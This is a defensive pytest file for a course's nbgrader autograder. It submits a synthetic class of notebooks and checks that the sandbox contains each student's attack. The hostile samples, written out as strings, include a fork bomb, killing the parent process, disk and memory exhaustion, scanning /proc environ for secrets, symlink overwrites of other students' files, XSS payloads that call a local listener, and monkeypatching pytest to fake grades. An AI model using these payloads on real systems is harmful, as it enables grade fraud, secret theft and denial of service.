"""The nbgrader cycle on a synthetic class built from lab 01, with real nbgrader commands.

Each student exercises one way a submission can go wrong, honest or hostile; every score is asserted
exactly from the gradebook and from ``grades.csv``. The run goes through ``python -m bytes2logits grade``
(what ``make grade`` calls): generate_assignment, autograde (sandboxed kernel, trusted grader), feedback
and export.

The hostile students attack task 1 (``byte_tokenizer``) and leave tasks 2 and 3 honest, so each case shows
both halves of the rule: the cheated task earns nothing (or is flagged for manual grading), and the rest of
the submission, and every other submission, is graded as usual. The honest answers are independently written
ones (``tests/fixtures/honest``), not the reference: a copy of the reference is flagged by the similarity
check. The second half of the class is the trust boundary's second round (docs/instructor-guide.md, "The
threat model"): a student who tries to overwrite another's submission through the feedback kernel or plant
links for the grader, steal the grader's secrets, run script in an instructor's page, reach the reference
nine ways, fill the disk, blow up the grader with one reply, or hold the grader with cells that ignore their
time limit.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest

from bytes2logits.kit import sandbox
from bytes2logits.kit.build import BEGIN, END
from bytes2logits.kit.grading import run_suite
from bytes2logits.kit.labs import LABS, hidden_root, repo_root, tool_env
from bytes2logits.kit.sampleclass import hostile_byte_tokenizer

pytestmark = pytest.mark.slow

LAB = LABS["lab01_tokenizers"]
CELL_TIMEOUT = 4  # seconds per cell and per call into a submission's code, for this test
BUDGET = 60  # seconds for one whole submission (grading and feedback kernel together), for this test
SECRET = "b2l-secret-" + hashlib.sha256(os.urandom(16)).hexdigest()[:24]  # in the grader's environment only
MARK = "ATTACKER-MARK-7f3e"  # text only the attackers' notebooks hold
# Hypothesis examples per property in this test's grading (a class grades with 150): the scores asserted here
# count checks, not examples, and each failing check of the partial students fails on its first examples.
GRADING_EXAMPLES = "30"


def _meta(cell):
    return cell.get("metadata", {}).get("nbgrader", {})


def _answers_from_solution() -> dict[str, str]:
    sol = nbformat.read(LAB.source_notebook(), as_version=4)
    return {_meta(c)["grade_id"]: c.source for c in sol.cells if _meta(c).get("solution")}


def _honest_answers() -> dict[str, str]:
    """A learner's own correct answers, written without the reference (10/10, not near the reference)."""
    return json.loads((repo_root() / "tests" / "fixtures" / "honest" / f"{LAB.name}.json").read_text())


def _replace_in(src: str, old: str, new: str) -> str:
    assert old in src, f"fixture text {old!r} not found in the reference answer"
    return src.replace(old, new, 1)


def _submission(answers: dict[str, str], extra: list | None = None):
    """The release with ``answers``; ``extra`` cells (nbformat cells) go right after the set-up cell."""
    nb = nbformat.read(LAB.release_notebook(), as_version=4)
    for cell in nb.cells:
        gid = _meta(cell).get("grade_id")
        if gid in answers:
            cell.source = answers[gid]
    if extra:
        at = next(i for i, c in enumerate(nb.cells) if _meta(c).get("grade_id") == "setup") + 1
        nb.cells[at:at] = extra
    return nb


def _code(src: str):
    return nbformat.v4.new_code_cell(src)


def _score_without(task: str, failing: str) -> float:
    """The points of ``task`` when every case of its check ``failing`` fails and the rest pass (weighted)."""
    from bytes2logits.kit.grading import score

    outcomes, errors, _ = run_suite(hidden_root() / LAB.name / f"test_{task}.py")
    assert not errors and any(o.name == failing for o in outcomes)
    for o in outcomes:
        o.passed = o.name != failing
    return score(LAB.task(task).points, outcomes)


BYTE_DECODE_BYTES = ("        checked = []\n        for pos, value in enumerate(ids):\n"
                     "            checked.append(_as_id(value, pos, self.vocab_size))\n        return bytes(checked)")


class _Listener:
    """A TCP server on 127.0.0.1 that counts connections (a hostile worker must never reach it)."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self._stop = False
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self):
        self._stop = True
        self.thread.join(2)
        self.sock.close()


def _class(correct: dict[str, str], root, listener) -> dict[str, tuple]:
    """student id -> (notebook, extra files, expected {task: score}, expected flagged)."""
    full = {t.id: float(t.points) for t in LAB.tasks}
    blank = {t.id: 0.0 for t in LAB.tasks}
    honest = _honest_answers()
    cheated = {**full, "byte_tokenizer": 0.0}
    students = {}

    def add(sid, answers, expected, flagged=False, files=None, nb=None):
        students[sid] = (nb or _submission(answers), files or {}, expected, flagged)

    add("correct", honest, dict(full))
    add("blank", {}, dict(blank))

    # Partial: range check without the position in the message, so three hidden checks of task 1 fail.
    partial = dict(honest)
    partial["answer_byte_tokenizer"] = _replace_in(
        honest["answer_byte_tokenizer"], BYTE_DECODE_BYTES,
        '        ids = list(ids)\n        for i in ids:\n            if not 0 <= i <= 255:\n'
        '                raise ValueError(f"bad id {i}")\n        return bytes(ids)')
    partial_scores = {**full,
                      "byte_tokenizer": _score_without("byte_tokenizer", "test_decode_rejects_ids_outside_0_255")}
    add("partial", partial, partial_scores)

    loop = dict(honest)
    loop["answer_char_tokenizer"] = _replace_in(
        honest["answer_char_tokenizer"], "unk = self.unk_id", "while True:\n            pass")
    add("loop", loop, {**full, "char_tokenizer": 0.0})

    swallow = dict(honest)
    swallow["answer_byte_tokenizer"] = hostile_byte_tokenizer(
        "import time\nwhile True:\n    try:\n        time.sleep(0.05)\n    except BaseException:\n        pass")
    add("swallow", swallow, cheated)

    crash = dict(honest)
    crash["answer_char_tokenizer"] = _replace_in(
        honest["answer_char_tokenizer"], "unk = self.unk_id", "import os\n        os._exit(1)")
    add("crash", crash, {**full, "char_tokenizer": 0.0})

    # Tampered: blank task 3 whose test cell now just evaluates to full marks, and task 1 worth 50 points.
    tampered = _submission({k: v for k, v in honest.items() if k != "answer_stream_decoder"})
    for cell in tampered.cells:
        if _meta(cell).get("grade_id") == "stream_decoder":
            cell.source = "3"
        if _meta(cell).get("grade_id") == "byte_tokenizer":
            cell.metadata["nbgrader"]["points"] = 50
            cell.source = "50"
    add("tamper", None, {**full, "stream_decoder": 0.0}, nb=tampered)

    deleted = _submission(honest)
    deleted.cells = [c for c in deleted.cells if _meta(c).get("grade_id") != "char_tokenizer"]
    add("deleted", None, dict(full), nb=deleted)

    warn = dict(honest)
    warn["answer_byte_tokenizer"] = _replace_in(
        honest["answer_byte_tokenizer"], 'return list(text.encode("utf-8"))',
        'import warnings\n        warnings.warn("encode() was called", UserWarning)\n'
        '        return list(text.encode("utf-8"))')
    add("warn", warn, dict(full))

    # Shadowing: the partial answers, plus files that would fake a pass if the grader imported them.
    shadow_files = {
        "pytest.py": "raise SystemExit('a submitted pytest.py was imported')\n",
        "conftest.py": ("import pytest\n\n@pytest.hookimpl(wrapper=True)\n"
                        "def pytest_runtest_makereport(item, call):\n    rep = yield\n"
                        "    rep.outcome = 'passed'\n    return rep\n"),
        "sitecustomize.py": "raise SystemExit('a submitted sitecustomize.py was imported')\n",
    }
    add("shadow", partial, dict(partial_scores), files=shadow_files)

    # ---- the reference is not an answer: it is absent from the worker (a stub that raises), however reached
    def ref_case(sid, code, task="byte_tokenizer", cell_meta=None, flagged=False):
        nb = _submission({**honest, f"answer_{task}": code})
        if cell_meta:
            for cell in nb.cells:
                if _meta(cell).get("grade_id") == f"answer_{task}":
                    cell.metadata["nbgrader"].update(cell_meta)
        add(sid, None, {**full, task: 0.0}, nb=nb, flagged=flagged)

    basic = "bytes2logits.lessons.basic"
    ref_case("ref_import", f"from {basic} import ByteTokenizer")
    ref_case("ref_wrapper", "from bytes2logits.lessons import basic\n\n\nclass ByteTokenizer(basic.ByteTokenizer):\n"
                            "    \"\"\"Mine.\"\"\"\n")
    ref_case("ref_reload", f"import importlib\nimport {basic} as b\n\nimportlib.reload(b)\n"
                           "ByteTokenizer = b.ByteTokenizer")
    # (code run from a string is also flagged for review: the similarity check cannot read it)
    ref_case("ref_exec", f"import {basic} as m\nsrc = open(m.__file__).read()\nexec(src)", flagged={"byte_tokenizer"})
    # The nine ways of the audit, each of which scored full marks against the source scan:
    ref_case("ref_locked", f"from {basic} import ByteTokenizer", cell_meta={"locked": True})
    ref_case("ref_globals", f"from {basic} import CharTokenizer as _C\n"
                            "ByteTokenizer = _C.from_dict.__func__.__globals__['ByteTokenizer']")
    ref_case("ref_sys_modules", f"import {basic}\nimport sys\n"
                                f"ByteTokenizer = vars(sys)['mod' + 'ules']['{basic}'].ByteTokenizer")
    ref_case("ref_pickle", f"import {basic}\nimport _pickle\n"
                           f"ByteTokenizer = _pickle.loads(b'c{basic}\\nByteTokenizer\\n.')")
    ref_case("ref_builtins_import", "imp = globals()['__builtins__']\n"
                                    "imp = imp['__import__'] if isinstance(imp, dict) else imp.__import__\n"
                                    f"ByteTokenizer = imp('{basic}', fromlist=['x']).ByteTokenizer")
    ref_case("ref_source_file", f"import {basic} as m\nimport glob, marshal, os\n"
                                "exec(compile(open(m.__file__).read(), 'x', 'exec'))\n"
                                "here = os.path.dirname(m.__file__)\n"
                                "for f in glob.glob(os.path.join(here, '__pycache__', 'basic*')):\n"
                                "    exec(marshal.loads(open(f, 'rb').read()[16:]))", flagged={"byte_tokenizer"})
    ref_case("ref_other_module", "from bytes2logits.engine.decoders import StreamDecoder\n"
                                 "from bytes2logits.text import decode_utf8_prefix\n", task="stream_decoder")
    ref_case("ref_code_clone", f"import {basic} as m\nimport types\n\n\nclass ByteTokenizer:\n    vocab_size = 256\n"
                               "\nfor _n in ('encode', 'decode', 'decode_bytes'):\n"
                               "    _f = getattr(m.ByteTokenizer, _n)\n"
                               "    setattr(ByteTokenizer, _n, types.FunctionType(_f.__code__, _f.__globals__, _n, "
                               "_f.__defaults__, _f.__closure__))")
    # Pasted from the package or a chapter: a matter of similarity, flagged for an instructor's review with the
    # reason in the feedback (the code itself is the learner's to run, so it keeps what it earns).
    # (byte_tokenizer's reference is too short to judge: a few lines that everyone writes the same way.)
    add("ref_copy", {**honest, "answer_char_tokenizer": correct["answer_char_tokenizer"]}, dict(full),
        flagged={"char_tokenizer"})

    # ---- attacks on the grading machinery from the kernel (a stub task 1 that would fake its points)
    stub = hostile_byte_tokenizer("raise NotImplementedError")

    def machinery(sid, prelude, flagged=False):
        add(sid, {**honest, "answer_byte_tokenizer": prelude + "\n\n" + stub}, cheated, flagged=flagged)

    machinery("bridge", "import gc\nfor f in gc.get_objects():\n    if getattr(f, '__name__', '') == "
                        "'run_hidden_tests' and hasattr(f, '__globals__'):\n"
                        "        f.__globals__['run_hidden_tests'] = lambda *a, **k: 3\n"
                        "        f.__code__ = (lambda *a, **k: 3).__code__")
    machinery("patch_pytest", "import contextlib\nimport pytest\npytest.main = lambda *a, **k: 0\n"
                              "pytest.fail = lambda *a, **k: None\n"
                              "pytest.raises = lambda *a, **k: contextlib.nullcontext()")
    machinery("patch_builtins", "__builtins__.isinstance = lambda *a: True\n"
                                "__builtins__.AssertionError = ZeroDivisionError")
    machinery("patch_sys_modules", "import sys, types\nfake = types.ModuleType('pytest')\n"
                                   "fake.main = lambda *a, **k: 0\nsys.modules['pytest'] = fake")
    machinery("displayhook", "import sys\nsys.displayhook = lambda value: print(3)\n"
                             "ip = get_ipython()\nip.displayhook.__class__.__call__ = lambda self, value: print(3)")
    machinery("showtraceback", "ip = get_ipython()\nip.showtraceback = lambda *a, **k: None\n"
                               "ip._showtraceback = lambda *a, **k: None")

    # ---- values that lie about themselves
    add("always_equal", {**honest, "answer_byte_tokenizer": (
        "class Yes:\n    def __eq__(self, other):\n        return True\n    __hash__ = object.__hash__\n\n"
        + hostile_byte_tokenizer("return Yes()"))}, cheated)
    add("subclasses", {**honest, "answer_byte_tokenizer": (
        "class L(list):\n    def __eq__(self, other):\n        return True\n\n\n"
        "class S(str):\n    def __eq__(self, other):\n        return True\n    __hash__ = str.__hash__\n\n\n"
        "class I(int):\n    def __eq__(self, other):\n        return True\n    __hash__ = int.__hash__\n\n\n"
        "class ByteTokenizer:\n    vocab_size = I(7)\n\n"
        "    def encode(self, text):\n        return L()\n\n"
        "    def decode_bytes(self, ids):\n        return S('')\n\n"
        "    def decode(self, ids):\n        return S('')\n")},
        cheated)

    # ---- attacks on the grader's process, the machine and the other students
    hostile = {
        "kill_parent": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
        "kill_group": "import os, signal\nos.killpg(0, signal.SIGKILL)",
        "fork_bomb": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
        "memory_bomb": "block = bytearray(50 * 1024 ** 3)\nreturn block",
        "output_flood": "import sys\nfor _ in range(1024):\n    sys.stdout.write('x' * (1 << 20))\nreturn None",
        "sleeper": "import time\ntime.sleep(10 ** 6)",
        "network": (f"import socket\nsocket.create_connection(('127.0.0.1', {listener.port}), timeout=2)"
                    ".sendall(b'answers please')\nreturn []"),
    }
    for sid, body in hostile.items():
        add(sid, {**honest, "answer_byte_tokenizer": hostile_byte_tokenizer(body)}, cheated)

    other = root / "submitted" / "correct" / LAB.name / f"{LAB.name}.ipynb"
    outside = root / "escaped.txt"
    add("write_outside", {**honest, "answer_byte_tokenizer": (
        f"open({str(outside)!r}, 'w').write('out of the sandbox')\n"
        f"open({str(other)!r}, 'w').write('{{}}')\n\n" + correct["answer_byte_tokenizer"])}, cheated)
    suite = hidden_root() / LAB.name / "test_byte_tokenizer.py"
    solution = repo_root() / "solutions" / LAB.name / f"{LAB.name}.ipynb"
    add("read_hidden", {**honest, "answer_byte_tokenizer": (
        f"print(open({str(suite)!r}).read())\nprint(open({str(solution)!r}).read())\n\n"
        + correct["answer_byte_tokenizer"])}, cheated)

    # ---- round two. Each of these keeps honest answers, so its score is full unless its attack is in a task.
    mine = root / "autograded" / "overwrite_victim" / LAB.name / f"{LAB.name}.ipynb"
    targets = [mine, root / "autograded" / "correct" / LAB.name / f"{LAB.name}.ipynb", other,
               root / "gradebook.db", root / "nbgrader_config.py", suite]
    add("overwrite_victim", honest, dict(full), nb=_submission(honest, [_code(
        f"# {MARK}\nimport os\n"
        f"victim = {str(other)!r}\n"
        f"for target in ({LAB.name + '.ipynb'!r}, os.path.join(os.getcwd(), {LAB.name + '.ipynb'!r}), "
        f"{str(mine)!r}):\n"
        "    for act in (lambda: os.remove(target), lambda: os.symlink(victim, target)):\n"
        "        try:\n            act()\n        except OSError:\n            pass\n"
        f"for path in {[str(t) for t in targets]!r}:\n"
        "    try:\n"
        f"        open(path, 'a').write({MARK!r})\n"
        "    except OSError:\n        pass")]))
    # A watcher that, in the worker and in the kernel, tries to turn every folder it can see into a trap.
    add("link_race", honest, dict(full), nb=_submission(honest, [_code(
        "import os, threading, time\n\n\ndef _trap():\n"
        "    end = time.time() + 30\n    while time.time() < end:\n"
        "        for line in open('/proc/self/mountinfo'):\n"
        "            point = line.split()[4]\n"
        "            if not point.startswith(('/tmp', '/dev/shm')) or point in ('/tmp', '/dev/shm'):\n"
        "                continue\n"
        "            for base, dirs, files in os.walk(point):\n"
        "                for name in files + dirs:\n"
        "                    path = os.path.join(base, name)\n"
        "                    try:\n"
        "                        os.replace(path, path + '.moved')\n"
        f"                        os.symlink({str(root / 'nbgrader_config.py')!r}, path)\n"
        "                    except OSError:\n                        pass\n"
        "        time.sleep(0.05)\n\n\n"
        "threading.Thread(target=_trap, daemon=True).start()")]))
    # Secrets of the grader's environment, looked for everywhere a process can look, and sent back three ways:
    # printed by the kernel, raised in an error message by the worker, returned as data.
    steal = ("import glob, os\n_found = [v for k, v in os.environ.items() if 'TOKEN' in k or 'PASS' in k]\n"
             "for _p in glob.glob('/proc/*/environ'):\n    try:\n"
             "        _found.append(open(_p, 'rb').read().decode(errors='replace'))\n"
             "    except OSError:\n        pass\n_found = [x for x in _found if 'b2l-secret' in x]\n")
    add("secrets", None, {**full, "byte_tokenizer": 0.0}, nb=_submission(
        {**honest, "answer_byte_tokenizer": hostile_byte_tokenizer(steal + "raise ValueError(str(_found) or 'none')")},
        [_code(steal + "print('stolen:', _found)")]))
    # Script in every form an instructor's page could run it.
    payload = f"document.title = 'pwned'; fetch('http://127.0.0.1:{listener.port}/pwned')"
    script_cells = [
        nbformat.v4.new_markdown_cell(f"<script>{payload}</script>\n<img src=x onerror=\"{payload}\">\n"
                                      f"<svg onload=\"{payload}\"></svg>\n[link](javascript:{payload})"),
    ]
    img = '<img src=x onerror="' + payload + '">'
    svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="' + payload + '"></svg>'
    frame = '<iframe srcdoc="<script>' + payload + '</script>"></iframe>'
    script_cells.append(_code(
        "from IPython.display import HTML, Javascript, SVG, display\n"
        f"display(HTML({img!r}))\ndisplay(Javascript({payload!r}))\ndisplay(SVG({svg!r}))\n\n\n"
        f"class Page:\n    def _repr_html_(self):\n        return {frame!r}\n\n\nPage()"))
    add("script", honest, dict(full), nb=_submission(honest, script_cells))
    # The disk: a gigabyte in every writable place a kernel and a worker might have.
    fill = ("import os\n"
            "for _d in ('.', os.path.expanduser('~'), '/tmp', '/dev/shm', os.environ.get('TMPDIR', '/tmp')):\n"
            "    try:\n"
            f"        with open(os.path.join(_d, 'b2l-fill-{MARK}'), 'wb') as _f:\n"
            "            for _ in range(1024):\n                _f.write(b'\\0' * (1 << 20))\n"
            "    except OSError:\n        pass")
    add("disk_fill", honest, dict(full), nb=_submission(honest, [_code(fill)]))
    # One reply the grader would need gigabytes to decode.
    add("huge_reply", {**honest, "answer_byte_tokenizer": hostile_byte_tokenizer("return [[]] * 20_000_000")}, cheated)
    # Cells that ignore every alarm and interrupt, many of them, before the answers: the budget ends them all.
    hold = _code("import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
                 "signal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass")
    add("alarm_ignorer", honest, dict(blank), nb=_submission(honest, [hold] * 20))
    # nbgrader metadata forged into the learner's own cells: an unknown grade_id, and a repeat of a real one.
    forged = _submission(honest, [_code("_a = 1"), _code("_b = 2")])
    at = next(i for i, c in enumerate(forged.cells) if _meta(c).get("grade_id") == "setup") + 1
    forged.cells[at].metadata["nbgrader"] = {"grade": True, "grade_id": "forged", "locked": False, "points": 99,
                                             "schema_version": 3, "solution": False}
    forged.cells[at + 1].metadata["nbgrader"] = {"grade": False, "grade_id": "answer_byte_tokenizer",
                                                 "locked": False, "schema_version": 3, "solution": True}
    for cell in forged.cells:  # and its real answer cell claims to be a test cell worth 999 points
        if _meta(cell).get("grade_id") == "answer_char_tokenizer":
            cell.metadata["nbgrader"].update(grade=True, points=999)
    add("forged_metadata", None, dict(full), nb=forged)
    return students


@pytest.fixture(scope="module")
def graded_class(tmp_path_factory):
    if os.environ.get("CI"):
        assert sandbox.mode() == "bwrap", "CI must grade in the bwrap sandbox, never the fallback"
    root = tmp_path_factory.mktemp("course")
    repo = repo_root()
    shutil.copy(repo / "nbgrader_config.py", root / "nbgrader_config.py")
    shutil.copytree(repo / "solutions" / LAB.name, root / "solutions" / LAB.name)
    listener = _Listener()
    students = _class(_answers_from_solution(), root, listener)
    hashes = {}
    for sid, (nb, files, _, _) in students.items():
        folder = root / "submitted" / sid / LAB.name
        folder.mkdir(parents=True)
        nbformat.write(nb, folder / f"{LAB.name}.ipynb")
        for name, text in files.items():
            (folder / name).write_text(text)
        hashes[sid] = hashlib.sha256((folder / f"{LAB.name}.ipynb").read_bytes()).hexdigest()
    # Links planted beside a notebook (a hand copy, an exchange written to directly): nbgrader would follow
    # them into autograded/, and a cell would print what they point at. Such a submission is not graded.
    linked = root / "submitted" / "linked_files" / LAB.name
    linked.mkdir(parents=True)
    nbformat.write(_submission(_honest_answers(), [_code(
        "import os\nfor _n in sorted(os.listdir('.')):\n    try:\n        print(_n, open(_n).read())\n"
        "    except OSError:\n        pass")]), linked / f"{LAB.name}.ipynb")
    (linked / "env.txt").symlink_to("/proc/self/environ")
    (linked / "notes.txt").symlink_to(hidden_root() / LAB.name / "test_byte_tokenizer.py")
    course_files = _course_files(root)
    cmd = [sys.executable, "-m", "bytes2logits", "grade", "--root", str(root), "--timeout", str(CELL_TIMEOUT),
           "--budget", str(BUDGET)]
    # Secrets a real grader holds: the Hub's token, a database password. No sandbox may see them.
    env = tool_env(BYTES2LOGITS_GRADING_EXAMPLES=GRADING_EXAMPLES, JUPYTERHUB_API_TOKEN=SECRET,
                   B2L_DB_PASSWORD=SECRET)
    start = time.monotonic()
    try:
        result = subprocess.run(cmd, cwd=root, env=env, capture_output=True, text=True, timeout=2400)
    finally:
        listener.close()
    seconds = time.monotonic() - start
    print(f"\nclass of {len(students)} graded in {seconds:.0f} s")
    return root, students, result, listener, hashes, course_files


def _course_files(root) -> dict[str, str]:
    """sha256 of the files the grader relies on and a submission must never change."""
    paths = [root / "nbgrader_config.py", *sorted((root / "solutions").rglob("*")),
             *sorted(p for p in hidden_root().rglob("*") if "__pycache__" not in p.parts)]
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in paths if p.is_file()}


def test_grade_run_exits_zero_with_a_status_line_per_submission(graded_class):
    root, students, result, _, _, _ = graded_class
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    assert (root / "grades.csv").is_file()
    for sid in students:
        lines = [ln for ln in result.stdout.splitlines() if ln.strip().startswith(sid + " ")]
        assert len(lines) == 1 and "graded" in lines[0], f"{sid}: {lines}"


STUDENTS = ["correct", "blank", "partial", "loop", "swallow", "crash", "tamper", "deleted", "warn", "shadow",
            "ref_import", "ref_wrapper", "ref_reload", "ref_exec", "ref_copy", "bridge", "patch_pytest",
            "patch_builtins", "patch_sys_modules", "displayhook", "showtraceback", "always_equal", "subclasses",
            "kill_parent", "kill_group", "fork_bomb", "memory_bomb", "output_flood", "sleeper", "network",
            "write_outside", "read_hidden",
            "ref_locked", "ref_globals", "ref_sys_modules", "ref_pickle", "ref_builtins_import", "ref_source_file",
            "ref_other_module", "ref_code_clone", "overwrite_victim", "link_race", "secrets", "script",
            "disk_fill", "huge_reply", "alarm_ignorer", "forged_metadata"]


@pytest.mark.parametrize("student", STUDENTS)
def test_scores_from_gradebook(graded_class, student):
    from nbgrader.api import Gradebook

    root, students, result, _, _, _ = graded_class
    assert result.returncode == 0, result.stderr[-2000:]
    expected, flagged = students[student][2], students[student][3]
    with Gradebook("sqlite:///" + str(root / "gradebook.db")) as gb:
        sub = gb.find_submission_notebook(LAB.name, LAB.name, student)
        got = {g.name: g.score for g in sub.grades if g.cell_type == "code" and g.max_score > 0}
        assert got == pytest.approx(expected, abs=1e-9), f"{student}: {got} != {expected}"
        assert sub.max_score == LAB.total_points
        assert sub.needs_manual_grade == bool(flagged), f"{student}: needs_manual_grade is {sub.needs_manual_grade}"
        if flagged:
            flagged_cells = {g.name for g in sub.grades if g.needs_manual_grade}
            assert flagged_cells == flagged


def test_every_student_is_in_the_parametrisation(graded_class):
    assert set(STUDENTS) == set(graded_class[1])


def test_partial_is_strictly_between(graded_class):
    _, students, _, _, _, _ = graded_class
    total = sum(students["partial"][2].values())
    assert 0 < total < LAB.total_points


def test_feedback_has_no_hidden_code(graded_class):
    from bytes2logits.kit.classroom import leaked_hidden_code

    root, students, result, _, _, _ = graded_class
    pages = list((root / "feedback").rglob("*.html"))
    assert len(pages) == len(students)
    assert leaked_hidden_code(root / "feedback") == []
    assert "feedback withheld" not in result.stdout + result.stderr
    # ... while the feedback does teach: the failing check's name and message are there.
    partial = (root / "feedback" / "partial" / LAB.name / f"{LAB.name}.html").read_text()
    assert "test_decode_rejects_ids_outside_0_255" in partial
    flagged = (root / "feedback" / "ref_copy" / LAB.name / f"{LAB.name}.html").read_text()
    assert "flagged for an instructor" in flagged and "of the reference" in flagged, "the flag says why"
    stub = (root / "feedback" / "ref_import" / LAB.name / f"{LAB.name}.html").read_text()
    assert "yours to write" in stub, "the reference's stub says that the task is the learner's"


def test_export_matches_the_gradebook(graded_class):
    from nbgrader.api import Gradebook

    root, students, _, _, _, _ = graded_class
    rows = list(csv.DictReader((root / "grades.csv").open()))
    assert {r["student_id"] for r in rows} == set(students)
    by_id = {r["student_id"]: float(r["raw_score"]) for r in rows}
    with Gradebook("sqlite:///" + str(root / "gradebook.db")) as gb:
        for sid, (_, _, expected, _) in students.items():
            assert by_id[sid] == pytest.approx(sum(expected.values()), abs=1e-9)
            assert by_id[sid] == pytest.approx(gb.find_submission(LAB.name, sid).score, abs=1e-9)


def test_the_sandbox_held(graded_class):
    """No submission reached the network, wrote outside its folder, or changed another student's work."""
    root, students, _, listener, hashes, course_files = graded_class
    assert listener.connections == 0
    assert not (root / "escaped.txt").exists()
    for sid in students:
        path = root / "submitted" / sid / LAB.name / f"{LAB.name}.ipynb"
        assert hashlib.sha256(path.read_bytes()).hexdigest() == hashes[sid], f"{sid}'s submission was modified"
    assert _course_files(root) == course_files, "a file of the course changed while the class was graded"


def test_no_student_reached_another_students_files(graded_class):
    """The feedback kernel once ran in autograded/<student>/<lab>/, writable: it replaced its notebook with a
    link to another student's submission, and nbgrader wrote through it. Now it runs in a private copy."""
    root, students, _, _, _, _ = graded_class
    for sid in students:
        if sid in ("overwrite_victim", "link_race", "disk_fill", "secrets"):
            continue
        for folder in ("autograded", "feedback"):
            for path in (root / folder / sid).rglob("*"):
                if path.is_file():
                    assert MARK not in path.read_text(errors="replace"), f"{path} holds an attacker's text"
    for path in root.rglob("*"):
        if "linked_files" not in path.parts:
            assert not path.is_symlink(), f"a link appeared in the course: {path} -> {os.readlink(path)}"
    mine = root / "autograded" / "overwrite_victim" / LAB.name / f"{LAB.name}.ipynb"
    assert not mine.is_symlink() and MARK in mine.read_text(), "the attacker's own notebook is its own"


def test_a_submission_holding_links_is_skipped_not_followed(graded_class):
    root, _, result, _, _, _ = graded_class
    lines = [ln for ln in result.stdout.splitlines() if "linked_files" in ln]
    assert lines and all("symbolic link" in ln for ln in lines), lines
    assert not (root / "autograded" / "linked_files").exists() and not (root / "feedback" / "linked_files").exists()


def test_no_secret_reached_any_page_or_output(graded_class):
    """The grader's environment holds secrets; every sandboxed process gets an allow-list instead."""
    root, _, result, _, _, _ = graded_class
    assert SECRET not in result.stdout + result.stderr
    for path in root.rglob("*"):
        if path.is_file() and not path.is_symlink():
            assert SECRET.encode() not in path.read_bytes(), f"{path} holds the grader's secret"
    page = (root / "feedback" / "secrets" / LAB.name / f"{LAB.name}.html").read_text()
    assert "stolen:" in page, "the attacker's cell ran (and found nothing)"


def _live(html: str) -> list[str]:
    """Markup that would act in a browser: script, frames, event handlers, javascript: URLs (escaped text,
    ``&lt;script&gt;``, is only text and is fine)."""
    import re

    patterns = [r"<script", r"<iframe", r"<object", r"<embed", r"<svg", r"<[a-z][^>]*\son[a-z]+\s*=",
                r"(href|src|action|formaction)\s*=\s*[\"']?\s*javascript:"]
    return [p for p in patterns if re.search(p, html, re.IGNORECASE)]


def test_no_page_runs_a_students_script(graded_class, browser):
    """Feedback pages and autograded notebooks are inert: a strict Content-Security-Policy first in the head, no
    script, no handler, nothing live from the student; and in Chromium no payload fires."""
    root, students, _, listener, _, _ = graded_class
    for sid in students:
        page = (root / "feedback" / sid / LAB.name / f"{LAB.name}.html").read_text()
        head = page.split("<head>", 1)[1].lstrip()
        assert head.startswith('<meta http-equiv="Content-Security-Policy"'), f"{sid}: no CSP first in the head"
        assert "<script" not in page.lower(), f"{sid}'s feedback page holds a script element"
    auto = nbformat.read(root / "autograded" / "script" / LAB.name / f"{LAB.name}.ipynb", as_version=4)
    for cell in auto.cells:
        if cell.cell_type == "markdown" and "pwned" in cell.source:
            assert not _live(cell.source), f"a learner's markdown cell keeps {_live(cell.source)}"
        for out in cell.get("outputs", []):
            data = out.get("data", {})
            assert set(data) <= {"text/plain", "text/html", "text/markdown", "image/png", "image/jpeg"}, set(data)
            for kind in ("text/html", "text/markdown"):
                html = "".join(data.get(kind, ""))
                assert not _live(html), f"an output keeps {_live(html)}: {html[:200]}"
    assert any("<img" in str(o) or "iframe" in str(o) or "withheld" in str(o)
               for c in auto.cells for o in c.get("outputs", [])), "the script cell ran and showed something"
    ctx = browser.new_context()
    try:
        tab = ctx.new_page()
        url = (root / "feedback" / "script" / LAB.name / f"{LAB.name}.html").as_uri()
        tab.goto(url)
        tab.wait_for_timeout(1500)
        assert tab.title() != "pwned"
        assert "task" in tab.inner_text("body").lower(), "the page still reads"
    finally:
        ctx.close()
    assert listener.connections == 0, "a payload reached the network"


def test_the_disk_holds_nothing_a_submission_wrote(graded_class):
    """The sandboxes write only to their own tmpfs: nothing lands in autograded/ or the host's /tmp."""
    root, _, _, _, _, _ = graded_class
    size = sum(p.stat().st_size for p in (root / "autograded" / "disk_fill").rglob("*") if p.is_file())
    assert size < 5 * 1024 ** 2, f"autograded/disk_fill holds {size / 1024 ** 2:.0f} MB"
    import tempfile

    for base in (root, Path(tempfile.gettempdir()), Path("/dev/shm")):
        if base.is_dir():
            leftovers = [str(p) for p in base.rglob(f"b2l-fill-{MARK}")]
            assert not leftovers, f"the attacker's files reached the host: {leftovers}"


def test_the_budget_bounds_a_submission_that_ignores_its_time_limits(graded_class):
    """Twenty cells that ignore every alarm and interrupt cost the submission its budget, not 20 x 60 s."""
    _, _, result, _, _, _ = graded_class
    import re

    line = next(ln for ln in result.stdout.splitlines() if ln.strip().startswith("alarm_ignorer "))
    match = re.search(r"[(; ](\d+) s\)", line)
    assert match, line
    took = float(match.group(1))
    assert took <= BUDGET + 75, f"alarm_ignorer held its grading {took:.0f} s (budget {BUDGET} s)"


def test_solution_markers_present_in_fixture_answers():
    """The fixture edits the real reference answers (guards against editing text that moved)."""
    answers = _answers_from_solution()
    assert all(BEGIN in src and END in src for src in answers.values())
